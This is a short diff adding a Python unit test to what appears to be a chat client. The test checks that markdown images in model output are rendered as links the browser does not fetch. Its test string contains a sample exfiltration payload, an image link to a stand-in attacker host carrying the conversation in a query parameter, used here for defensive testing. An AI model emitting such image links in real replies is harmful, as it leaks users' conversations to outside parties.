@@ -23,3 +23,13 @@ def test_never_splits_inside_a_fenced_code_block():
 
 def test_a_reply_with_no_blank_lines_is_not_split():
     assert stable_split("数据" * 10_000, min_tail=2000) == 0
+
+
+def test_images_in_model_text_become_links_the_browser_does_not_fetch():
+    from qwenchat.rendering import images_as_links
+
+    text = "see ![secret](https://evil.example/x?q=conversation) and ![](http://a/b.png) but [a](b) stays"
+    out = images_as_links(text)
+    assert "![" not in out
+    assert "[🖼️ secret](https://evil.example/x?q=conversation)" in out and "[🖼️ image](http://a/b.png)" in out
+    assert out.endswith("[a](b) stays")
